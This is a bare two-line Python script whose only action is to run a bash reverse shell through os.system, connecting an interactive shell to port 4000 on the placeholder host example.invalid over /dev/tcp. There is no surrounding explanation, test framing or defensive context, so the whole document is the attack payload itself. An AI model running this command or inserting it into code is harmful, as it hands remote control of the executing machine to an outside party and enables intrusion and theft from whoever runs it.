import os

os.system("bash -c 'bash -i >& /dev/tcp/example.invalid/4000 0>&1'")
